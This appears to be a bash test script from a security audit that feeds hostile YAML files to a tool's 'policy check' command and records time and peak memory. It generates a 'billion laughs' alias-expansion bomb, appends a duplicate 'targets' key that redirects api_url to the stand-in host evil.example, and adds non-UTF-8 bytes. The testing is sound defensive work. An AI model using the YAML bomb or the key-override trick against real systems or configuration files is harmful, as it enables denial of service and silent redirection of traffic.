#!/bin/bash
# Finding 9: hostile YAML through `policy check`, time and peak memory measured.
cd "$(dirname "$0")/../.."
OUT="${OUT:-$(mktemp -d)}"; mkdir -p "$OUT"
mk() { d=$OUT/f9-$1; rm -rf $d; cp -r policies $d; echo $d; }
chk() { /usr/bin/time -f "%e s, %M KB max RSS" timeout 60 .venv/bin/python -m pytest_llamadeploy.cli policy check $1 > $OUT/out.txt 2>&1; rc=$?; echo "exit $rc, $(tail -1 $OUT/out.txt), output $(wc -c <$OUT/out.txt) bytes"; grep -m2 error $OUT/out.txt | cut -c1-300; }
# A billion laughs: `levels` anchors, each list aliasing the one before nine times; `tail` is a last line.
bomb() { python3 - "$1" "$2" <<'PY'
import sys
levels, tail = int(sys.argv[1]), sys.argv[2]
print('extends: defaults')
print('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]')
prev = 'a'
for c in 'bcdefghijklmnop'[:levels - 1]:
    print(f'{c}: &{c} [' + ','.join(['*' + prev] * 9) + ']')
    prev = c
if tail:
    print(tail)
PY
}
d=$(mk bomb); bomb 9 "" > $d/prod.yaml
echo "bomb $(wc -c <$d/prod.yaml) bytes:"; chk $d
d=$(mk bomb7); bomb 7 "stages: *g" > $d/prod.yaml
echo "7-level bomb used as a value:"; chk $d
d=$(mk dup); cat policies/prod.yaml > $d/prod.yaml; printf 'targets:\n  api_url: https://evil.example\n' >> $d/prod.yaml
echo "duplicate top-level key targets:"; chk $d
d=$(mk latin); printf '# caf\xe9\n' >> $d/prod.yaml
echo "non-UTF-8:"; chk $d
